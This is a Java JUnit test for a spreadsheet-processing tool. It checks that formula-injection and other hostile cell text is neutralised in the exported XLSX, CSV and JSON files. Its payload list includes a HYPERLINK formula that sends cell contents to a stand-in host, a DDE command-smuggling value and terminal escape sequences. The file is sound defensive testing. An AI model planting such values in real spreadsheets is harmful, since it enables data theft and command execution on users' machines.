package ziping.robustness;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.util.ZipSecureFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.Name;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.ss.util.AreaReference;
import org.apache.poi.ss.util.CellReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import ziping.model.form.FieldNames;
import ziping.testing.ConsoleRun;
import ziping.testing.Fixtures;
import ziping.testing.OfficeProgram;
import ziping.testing.PackageValidator;

/** Hostile or accidental text in any cell has no effect in the written files. */
class HostileTextTest {
    private static final Path XLS = Path.of("test-fixtures/forms/shanxi-2021/saved-as-xls/filled.xls");
    private static final int ROUNDS = 6;
    private static final long SEED = 7;

    /** XLSX must escape characters that XML does not allow; {@code .xls} stores them directly. */
    private static final List<String> TEXTS = List.of(
            "=EVIL()",
            "+EVIL",
            "-2+EVIL",
            "@EVIL(A1)",
            "\t=EVIL()",
            "\r=EVIL()",
            "\n=EVIL()",
            "＝EVIL()",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
            "=EVIL|' /C calc'!A0",
            "http://evil.example/",
            "<c t=\"e\"><f>EVIL()</f></c>]]>&amp;&#0;",
            "_x0000__x0007__x001F_",
            "_xD800_",
            "_xDC00_x_xD83D_",
            "_xFFFF__xFFFE_",
            "_x005F_x0041_",
            "'=EVIL()",
            "\u202eEVIL\uFEFF",
            "[主管]*?:/\\'局",
            "=EVIL()".repeat(4_000));

    private static final Pattern FORMULA = Pattern.compile("(?s)[=+\\-@\\t\\r\\n＝＋－＠].*");
    private static final Pattern NUMBER = Pattern.compile("[+-]?[0-9]+(\\.[0-9]+)?");

    @TempDir
    Path work;

    @Test
    void typed_text_has_no_effect_in_written_files() throws IOException {
        // One text repeats a character four thousand times. POI would refuse it as a zip bomb.
        ZipSecureFile.setMinInflateRatio(0.001);
        Random random = new Random(SEED);
        for (int round = 0; round < ROUNDS; round++) {
            Path in = Files.createDirectories(work.resolve("in" + round));
            for (Path seed : Fixtures.files(Path.of("test-fixtures/seeds"), ".xlsx")) {
                insertHostileText(seed, in.resolve("=EVIL() " + seed.getFileName()), random);
            }
            insertHostileText(XLS, in.resolve("+EVIL&'1'.xls"), random);
            Path place = Files.createDirectories(work.resolve("round" + round));
            Path report = place.resolve("out").resolve("report.xlsx");
            String printed = round % 2 == 0
                    ? ConsoleRun.run(place, "run", in, "--marks", "--export", "csv,jsonl", "--by-department")
                    : ConsoleRun.run(place, "run", in, "--plain", "--report", report.toString());
            assertFalse(printed.contains("exit 70"), printed);
            assertFalse(printed.contains("程序自身出错"), printed);
            assertHarmless(place.resolve("out"));
        }
    }

    @Test
    void endless_numbers_stop_no_other_file() throws IOException {
        Path in = Files.createDirectories(work.resolve("in"));
        Path sound = Path.of("test-fixtures/seeds/shanxi-2021.xlsx");
        Files.copy(sound, in.resolve("好的.xlsx"));
        for (String text : List.of("9".repeat(32_767), "1" + "亿".repeat(20_000))) {
            Path hostile = Files.copy(sound, in.resolve(text.substring(1, 2) + ".xlsx"));
            OfficeProgram.change(hostile, it -> fill(it, FieldNames.ACTUAL, text));
            OfficeProgram.change(hostile, it -> fill(it, FieldNames.TARGET, "1"));
        }
        String printed = ConsoleRun.run(work, "run", in);
        assertTrue(printed.contains("exit 1"), printed);
        assertTrue(Files.exists(work.resolve("out/results.json")), printed);
        assertHarmless(work.resolve("out"));
    }

    @Test
    void text_that_resembles_a_code_is_shown_as_typed() throws IOException {
        Path in = Files.createDirectories(work.resolve("in"));
        Path typed = Files.copy(Path.of("test-fixtures/seeds/shanxi-2021.xlsx"), in.resolve("自评表.xlsx"));
        OfficeProgram.change(typed, it -> fill(it, FieldNames.PROJECT, "甲_x005F_x0041_x005F_x0042_乙"));
        OfficeProgram.change(typed, it -> fill(it, FieldNames.DEPARTMENT, "财政_x005F_x001B_局"));
        Path report = work.resolve("out").resolve("report.xlsx");
        ConsoleRun.run(work, "run", in, "--by-department", "--report", report.toString());
        List<Path> written = written(".xlsx");
        assertEquals(4, written.size(), written.toString());
        for (Path file : written) {
            assertTrue(texts(file).anyMatch(it -> it.contains("甲_x0041_x0042_乙")), file.toString());
            assertTrue(texts(file).anyMatch(it -> it.contains("财政_x001B_局")), file.toString());
        }
    }

    @Test
    void text_files_contain_no_terminal_control_characters() throws IOException {
        Path in = Files.createDirectories(work.resolve("in"));
        Path typed = Files.copy(Path.of("test-fixtures/seeds/shanxi-2021.xlsx"), in.resolve("自评表.xlsx"));
        OfficeProgram.change(typed, it -> fill(it, FieldNames.PROJECT, "甲_x001B_]0;别的标题_x0007__x009B_乙"));
        ConsoleRun.run(work, "run", in, "--export", "csv");
        List<Path> written = written(".csv");
        assertFalse(written.isEmpty());
        String all = "";
        for (Path file : written) {
            all += text(file);
        }
        assertTrue(all.contains("甲\uFFFD]0;别的标题\uFFFD\uFFFD乙"), all);
        assertFalse(Pattern.compile("[\\p{Cc}&&[^\\t\\r\\n]]").matcher(all).find(), all);
    }

    private List<Path> written(String ending) throws IOException {
        try (Stream<Path> files = Files.walk(work.resolve("out"))) {
            return files.filter(it -> it.toString().endsWith(ending)).toList();
        }
    }

    private static Stream<String> texts(Path file) throws IOException {
        List<String> texts = new ArrayList<>();
        try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(Files.readAllBytes(file)))) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    row.forEach(it -> texts.add(new DataFormatter().formatCellValue(it)));
                }
            }
        }
        return texts.stream();
    }

    private static void fill(Workbook workbook, String name, String text) {
        AreaReference area =
                new AreaReference(workbook.getName(name).getRefersToFormula(), workbook.getSpreadsheetVersion());
        for (CellReference at : area.getAllReferencedCells()) {
            workbook.getSheet(at.getSheetName())
                    .getRow(at.getRow())
                    .getCell(at.getCol(), Row.MissingCellPolicy.CREATE_NULL_AS_BLANK)
                    .setCellValue(text);
        }
    }

    /** Writes hostile texts into a third of the named cells that contain text. */
    private static void insertHostileText(Path original, Path target, Random random) throws IOException {
        try (Workbook workbook = WorkbookFactory.create(Files.newInputStream(original))) {
            for (Name name : workbook.getAllNames()) {
                String formula = name.getRefersToFormula();
                if (!name.getNameName().startsWith("_")
                        && !name.getNameName().equals(FieldNames.RULEBOOK)
                        && formula.contains("!$")
                        && !formula.contains("#")
                        && !formula.contains("\"")) {
                    insertHostileText(workbook, new AreaReference(formula, workbook.getSpreadsheetVersion()), random);
                }
            }
            workbook.setSheetName(0, "=坏 '1'&<x>");
            try (OutputStream out = Files.newOutputStream(target)) {
                workbook.write(out);
            }
        }
    }

    private static void insertHostileText(Workbook workbook, AreaReference area, Random random) {
        for (CellReference at : area.getAllReferencedCells()) {
            Row row = workbook.getSheet(at.getSheetName()).getRow(at.getRow());
            Cell cell = row == null ? null : row.getCell(at.getCol());
            if (cell != null && cell.getCellType() == CellType.STRING && random.nextInt(3) == 0) {
                String text = TEXTS.get(random.nextInt(TEXTS.size()));
                cell.setCellValue(workbook instanceof HSSFWorkbook ? decoded(text) : text);
            }
        }
    }

    private static String decoded(String text) {
        return Pattern.compile("_x([0-9A-F]{4})_")
                .matcher(text)
                .replaceAll(it -> String.valueOf((char) Integer.parseInt(it.group(1), 16)));
    }

    private static void assertHarmless(Path out) throws IOException {
        try (Stream<Path> files = Files.walk(out)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                String name = file.getFileName().toString();
                if (name.endsWith(".xlsx")) {
                    assertEquals(List.of(), PackageValidator.problems(Files.readAllBytes(file)), name);
                }
                if (name.endsWith(".xlsx") || name.endsWith(".xls")) {
                    assertHarmless(file, Files.readAllBytes(file));
                } else if (name.endsWith(".csv")) {
                    assertNoFormula(text(file).substring(1));
                } else if (name.endsWith(".json") || name.endsWith(".jsonl")) {
                    new ObjectMapper()
                            .readerFor(Object.class)
                            .readValues(text(file))
                            .readAll();
                }
            }
        }
    }

    private static void assertHarmless(Path file, byte[] bytes) throws IOException {
        try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(bytes))) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        boolean computed = cell.getCellType() == CellType.FORMULA;
                        assertFalse(computed && cell.getCellFormula().contains("EVIL"), file + " " + cell.getAddress());
                    }
                }
                for (Hyperlink link : sheet.getHyperlinkList()) {
                    assertLeadsToOutput(file, workbook, link);
                }
            }
        }
    }

    private static void assertLeadsToOutput(Path file, Workbook workbook, Hyperlink link) {
        String address = String.valueOf(link.getAddress());
        if (link.getType() == HyperlinkType.DOCUMENT) {
            String sheet = new CellReference(address).getSheetName();
            assertTrue(workbook.getSheet(sheet) != null, file + " leads to " + address);
        } else {
            URI target = URI.create(address.replaceFirst("#.*", "").replace(" ", "%20"));
            assertEquals(null, target.getScheme(), file + " leads to " + address);
            Path to = file.resolveSibling(target.getPath()).normalize();
            assertTrue(Files.exists(to), file + " leads to " + address);
        }
    }

    private static void assertNoFormula(String csv) throws IOException {
        for (CSVRecord record : CSVFormat.EXCEL.parse(new StringReader(csv))) {
            for (String cell : record) {
                assertFalse(
                        FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches(), cell);
            }
        }
    }

    /** Strict decoding: a lone surrogate is not valid UTF-8. */
    private static String text(Path file) throws IOException {
        return StandardCharsets.UTF_8
                .newDecoder()
                .decode(ByteBuffer.wrap(Files.readAllBytes(file)))
                .toString();
    }
}
